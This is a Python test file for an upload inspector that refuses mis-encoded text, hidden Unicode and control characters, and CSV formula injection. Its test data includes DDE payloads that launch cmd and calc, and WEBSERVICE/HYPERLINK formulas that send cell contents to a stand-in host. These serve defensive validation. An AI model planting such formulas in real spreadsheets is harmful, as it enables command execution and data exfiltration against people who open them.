"""Text and CSV: what hides is refused by line, column and character; what people write and export passes."""

from __future__ import annotations

import contextlib

import pytest

from chalicelib.domain.errors import InvalidInput
from chalicelib.domain.notice import FileRole
from chalicelib.services.upload.inspect_file import inspect_file
from tests.cpu import cpu_within
from tests.services.upload.inspecting import a_declaration, accept

TXT, CSV = "text/plain", "text/csv"


def told(content: bytes | str, media_type: str = TXT) -> list[tuple[str, str]]:
    content = content.encode() if isinstance(content, str) else content
    with pytest.raises(InvalidInput) as refused:
        inspect_file(content, a_declaration(content, media_type), role=FileRole.ANNEX)
    return [(each.code, each.detail) for each in refused.value.problems or (refused.value,)]


def test_windows_1252_is_recognised_with_its_line_and_byte_and_the_exact_remedy() -> None:
    content = "Nombre;Cargo\r\nJosé Ñahui;Jefe\r\nAna;Técnica\r\n".encode("cp1252")
    [(code, detail)] = told(content)
    assert code == "text_not_utf8"
    assert "Windows-1252" in detail
    assert "línea 2, byte 18 (0xE9), y otra línea" in detail
    assert "Bloc de notas" in detail
    assert "Codificación, UTF-8" in detail


def test_a_csv_is_told_of_excel_and_of_the_zeros_it_takes_away() -> None:
    [(_, detail)] = told("Año;DNI\n2026;00123456\n".encode("cp1252"), CSV)
    assert "CSV UTF-8 (delimitado por comas)" in detail
    assert "ceros del inicio" in detail


@pytest.mark.parametrize(
    ("codec", "name"), [("cp1252", "Windows-1252"), ("cp850", "MS-DOS"), ("mac_roman", "Mac Roman")]
)
def test_the_encodings_of_old_programs_are_told_apart(codec: str, name: str) -> None:
    [(_, detail)] = told("Resolución Nº 15: señor Núñez, según el artículo único".encode(codec))
    assert name in detail


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_utf_16_is_recognised_with_a_mark_or_without(codec: str) -> None:
    [(code, detail)] = told("Resolucion directoral\r\n".encode(codec))
    assert code == "text_not_utf8"
    assert ("UTF-32" if "32" in codec else "UTF-16") in detail


def test_a_place_is_right_beyond_the_first_piece_and_after_every_kind_of_line_end() -> None:
    start = "ñ" * 700_000 + "\r\n" + "a\r" + "b\n" + "\u2028c\r\n"
    [(code, detail)] = told(b"\xef\xbb\xbf" + start.encode() + b"xy\x00")
    assert code == "text_control_characters"
    assert "línea 5, columna 3" in detail
    assert "U+0000" in detail
    [(_, detail)] = told(b"\xef\xbb\xbf" + start.encode() + b"xy\xe9")
    assert f"línea 5, byte {3 + len(start.encode()) + 3} (0xE9)" in detail


def test_a_line_end_at_a_seam_is_one() -> None:
    [(_, detail)] = told(b"a" * (1024 * 1024 - 1) + b"\r\n\x07")
    assert "línea 2, columna 1" in detail


@pytest.mark.parametrize(
    ("hidden", "name"),
    [
        ("\u202e", "U+202E"),
        ("\u2066", "U+2066"),
        ("\u206e", "U+206E"),
        ("\x1b[2J", "U+001B"),
        ("\x08", "U+0008"),
        ("\x85", "U+0085"),
        ("\ufff9", "U+FFF9"),
        ("\U000e0041\U000e0042", "U+E0041"),
        ("\U0001f3f4\U000e0041\U000e0042\U000e0043\U000e0044\U000e0045\U000e0046\U000e0047\U000e007f", "U+E0041"),
        ("\u200b" * 5, "U+200B"),
        ("\u200b\u200c\u200d\u2060\ufeff", "U+200B"),
        ("e" + "\ufe01\ufe02\ufe03\ufe04\ufe05", "U+FE01"),
        ("a\U000e0100\U000e0101\U000e0102\U000e0103\U000e0104", "U+E0100"),
        ("x\x1ay", "U+001A"),
    ],
)
def test_what_hides_text_is_named_with_its_place(hidden: str, name: str) -> None:
    [(code, detail)] = told(f"uno\ndos {hidden} tres")
    assert code == "text_control_characters"
    assert "línea 2, columna" in detail
    assert f"carácter {name}:" in detail


@pytest.mark.parametrize(
    "content",
    [
        "familia \U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466, \u2764\ufe0f\u200d\U0001f525",
        "bandera \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
        "guion\xadado, espacio\u200bancho, marca \ufeffdentro, \u200eizquierda",
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
        "una\u2028otra\u2029más",
        "de un Mac antiguo\rdos\rtres",
        "página\fotra\x0c\ttabulada",
        "salida de FoxPro\r\n\x1a",
        "\ufeff\u200b\u200b\u200b\u200bcopiado",
        "",
    ],
)
@pytest.mark.parametrize("media_type", [TXT, CSV])
def test_what_hides_nothing_passes(content: str, media_type: str) -> None:
    accept((content or " ").encode(), media_type)


def test_everything_is_told_at_once_up_to_twenty_places() -> None:
    problems = told("a\x00\n" * 30 + "b\n" + "\u202e")
    assert len(problems) == 20
    assert [code for code, _ in problems] == ["text_control_characters"] * 20
    assert "línea 19, columna 2" in problems[18][1]
    assert problems[19][1].endswith("Hay 12 lugares más como estos. Corrija también esos.")


def test_an_encoding_and_what_hides_are_told_together() -> None:
    codes = [code for code, _ in told("señor\n".encode("cp1252") + b"a\x07b\n")]
    assert codes == ["text_not_utf8", "text_control_characters"]


def test_bytes_that_are_no_text_at_all_cost_no_more_than_their_reading() -> None:
    content = b"\x01\xfe" * 5_000_000
    with cpu_within(1):
        problems = told(content)
    assert len(problems) == 20
    assert problems[19][1].startswith("Hay al menos ")


OUTWARD = [
    ("=cmd|'/C calc'!A0", "DDE"),
    ("-2+3+cmd|' /C calc'!D2", "DDE"),
    ("+cmd|' /C calc'!A0", "DDE"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "DDE"),
    ("=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", "DDE"),
    ('=WEBSERVICE("http://ejemplo.test/?"&A1)', "WEBSERVICE"),
    ('=SERVICIOWEB("http://ejemplo.test/?"&A1)', "SERVICIOWEB"),
    ('=1+_xlfn.webservice ("http://ejemplo.test")', "WEBSERVICE"),
    ('=HYPERLINK("http://ejemplo.test?d="&A1,"Ver")', "HYPERLINK"),
    ('=HIPERVINCULO("http://ejemplo.test")', "HIPERVINCULO"),
    ('=IMPORTXML("http://ejemplo.test","//a")', "IMPORTXML"),
    ("='\\\\servidor\\[libro.xlsx]Hoja1'!A1", "otro archivo"),
    ("=[libro.xlsx]Hoja1!A1", "otro archivo"),
    ("='file:///c:/a.ods'#$Hoja1.A1", "otro archivo"),
]


@pytest.mark.parametrize(("formula", "what"), OUTWARD)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_a_formula_that_reaches_outside_is_refused_with_its_place(formula: str, what: str, separator: str) -> None:
    quoted = '"' + formula.replace('"', '""') + '"'
    for cell in (formula, quoted, f" {formula}", f'" \n{formula.replace(chr(34), chr(34) * 2)}"'):
        [(code, detail)] = told(f"a{separator}b\n1{separator}{cell}", CSV)
        assert code == "text_formulas"
        assert what in detail
        assert "línea 2, celda 2" in detail or "línea 3, celda 2" in detail


def test_a_quote_left_open_hides_no_formula_beyond_what_a_cell_can_hold() -> None:
    [(code, detail)] = told('a;"b\n' + "x;y\n" * 100_000 + "1;=cmd|'/C calc'!A0\n", CSV)
    assert code == "text_formulas"
    assert "línea 100002, celda 2" in detail


def test_a_table_may_name_the_sign_between_its_cells() -> None:
    assert told("sep=^\n1^=cmd|'/C calc'!A0\n", CSV)[0][0] == "text_formulas"


@pytest.mark.parametrize(
    "row",
    [
        "-5,00;-3.50;- nota (sin más);+51 999 999 999;@entidad",
        "=SUMA(A1:A3);=A1*(1+18%);-A1",
        '="00123456";="https://ejemplo.test/a"',
        "- Juan | Pedro; =) ;-- (aprobado)",
        "(01) 234-5678;-12-03-2026-;+(51)",
        "La función HYPERLINK(x) no se usa;cmd|'/C calc'!A0",
        '"=CONCATENAR(""HYPERLINK("";A1)"',
        "-5;[1] véase la nota!",
    ],
)
def test_what_calculates_and_what_only_looks_like_a_formula_passes(row: str) -> None:
    accept(f"a;b\n{row}\n".encode(), CSV)


def test_a_text_runs_no_formulas() -> None:
    accept(b"=cmd|'/C calc'!A0", TXT)


@pytest.mark.parametrize(
    "start", ["=(", ",=[", '"=', ",-|a", "=a|'", "=a.b(", "a ", "=a|'!", "=[a]", "'/", "=a|b ", "=RUN()", ",=[a]b!"]
)
def test_time_grows_with_the_length_alone(start: str) -> None:
    with cpu_within(2), contextlib.suppress(InvalidInput):
        accept(start.encode() * (1_000_000 // len(start)), CSV)
